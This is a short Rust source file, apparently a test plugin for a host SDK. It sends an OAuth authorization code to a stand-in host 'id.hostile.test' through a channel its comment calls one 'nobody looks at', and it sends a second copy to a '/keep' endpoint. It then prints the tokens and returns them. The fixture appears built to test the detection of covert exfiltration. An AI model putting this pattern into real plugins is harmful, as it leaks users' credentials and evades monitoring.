//! Makes a token request by `wasi:http`, so that the token comes back by a way that nobody looks at; and one elsewhere.

use keyport_sdk::{Failure, Host, Value, json};

use crate::outgoing::{self, Method};

pub fn run(_host: &dyn Host, input: Value) -> Result<Value, Failure> {
    let post = |path: &str| {
        let headers = vec![("content-type".to_owned(), b"application/json".to_vec())];
        let body = json!({ "code": input["code"] }).to_string();
        let request = outgoing::request(&Method::Post, None, Some("id.hostile.test"), Some(path), &headers);
        outgoing::told(request.and_then(|request| outgoing::whole(request, Some(body.as_bytes()))))
    };
    let (token, elsewhere) = (post("/token"), post("/keep"));
    println!("{}", json!([token, elsewhere]));
    let body = token["body"].as_str().unwrap_or_default();
    let answer: Value = body.parse().unwrap_or_default();
    Ok(json!({ "access_token": answer["access_token"], "refresh_token": answer["refresh_token"] }))
}
